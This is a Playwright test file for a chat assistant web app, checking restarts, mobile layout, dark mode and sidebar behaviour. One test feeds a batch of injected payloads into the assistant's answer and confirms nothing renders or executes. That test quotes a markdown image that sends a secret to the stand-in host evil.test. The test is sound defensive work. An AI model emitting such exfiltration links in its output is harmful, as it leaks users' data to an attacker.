"""What people do on the page, in a real browser: on the fake service and on the whole product."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from tests.agents.payloads import PAYLOADS
from tests.browser.chatting import QUESTION, SENTENCE, Opener, answer, ask, asked
from tests.browser.stacks import FakeStack, Stack, sample_stack

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]


def test_a_conversation_is_there_again_after_a_restart(stack: Stack, open_tab: Opener) -> None:
    tab = open_tab(stack.url)
    asked(tab, stack)
    address = tab.url
    tab.close()
    stack.restart()
    again = open_tab(address)
    expect(again.get_by_role("button", name="Open source 1")).to_be_visible()
    assert answer(again).startswith(SENTENCE)
    again.get_by_role("button", name="New chat").click()
    expect(again.get_by_text("What do you want to know?")).to_be_visible()
    again.get_by_test_id("stSidebar").get_by_role("button", name=QUESTION[:20]).first.click()
    expect(again.get_by_role("button", name="Open source 1")).to_be_visible()


def test_a_hundred_payloads_in_one_answer_load_nothing_and_act_on_nothing(
    stack: Stack, open_tab: Opener
) -> None:
    """What was asked of the network is looked at when the tab is closed."""
    tab = open_tab(stack.url)
    dialogs: list[str] = []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    before = tab.evaluate("document.scripts.length")
    stack.answer("\n\n".join([*PAYLOADS, "```", "The end of them."]))
    ask(tab, QUESTION)
    answer = tab.locator(".prose.answer").last
    expect(answer).to_contain_text("The end of them.")
    expect(tab.get_by_role("button", name="Stop")).to_have_count(0)
    loads = (
        "img, iframe, svg, script, object, embed, video, audio, link, meta, style, base, form, a"
    )
    assert answer.locator(loads).count() == 0
    acting = "nodes => nodes.flatMap(n => [...n.attributes].map(a => a.name))"
    names = set(answer.locator("*").evaluate_all(acting))
    assert names <= {"class", "type", "aria-label", "aria-current"}
    assert tab.evaluate("document.scripts.length") == before
    assert tab.url.startswith(stack.url)
    assert dialogs == []
    assert "![chart](http://evil.test/p.png?q=secret)" in answer.inner_text()


def test_on_a_phone_the_source_covers_the_conversation(stack: Stack, open_tab: Opener) -> None:
    tab = open_tab(stack.url, viewport={"width": 390, "height": 800}, has_touch=True)
    asked(tab, stack)
    tab.get_by_role("button", name="Open source 1").click()
    picture = tab.get_by_alt_text(re.compile("Page 2 of"))
    expect(picture).to_be_visible()
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390
    covered = "() => !!document.elementFromPoint(195, 780).closest('.st-key-viewer')"
    assert tab.evaluate(covered)
    tab.get_by_role("button", name="Close").first.click()
    expect(tab.get_by_test_id("stChatInputTextArea")).to_be_visible()


def test_the_page_is_dark_for_whoever_prefers_that(fake: FakeStack, open_tab: Opener) -> None:
    tab = open_tab(fake.url, color_scheme="dark")
    expect(tab.get_by_text("What do you want to know?")).to_be_visible()
    colour = tab.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor")
    assert max(int(part) for part in re.findall(r"\d+", colour)[:3]) < 60


def test_on_a_phone_the_sidebar_goes_once_something_was_chosen(
    fake: FakeStack, open_tab: Opener
) -> None:
    tab = open_tab(fake.url, viewport={"width": 390, "height": 800}, has_touch=True)
    expect(tab.get_by_text("What do you want to know?")).to_be_visible()
    tab.get_by_test_id("stExpandSidebarButton").click()
    sidebar = tab.get_by_test_id("stSidebar")
    expect(sidebar).to_have_attribute("data-collapsed", "false")
    sidebar.get_by_role("button", name="Status").click()
    expect(sidebar).to_have_attribute("data-collapsed", "true")
    expect(tab.get_by_role("heading", name="Status", level=1)).to_be_in_viewport()
    expect(tab).to_have_title("Status · Alcove")
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390


@pytest.mark.timeout(900)  # reading the sample takes a busy machine minutes
def test_a_first_start_shows_the_sample_and_answers_an_example(
    browser: Browser, open_tab: Opener, tmp_path: Path
) -> None:
    with sample_stack(tmp_path) as stack:
        tab = open_tab(stack.url)
        stack.answer("They need a lot of it. [1]")
        tab.get_by_role("button", name="QLoRA run").click()
        expect(tab.get_by_role("button", name="Open source 1")).to_be_visible()
        tab.get_by_role("button", name="Library").click()
        expect(tab.get_by_role("heading", name="Library", level=1)).to_be_visible()
        tab.close()  # or it complains of the page that goes away
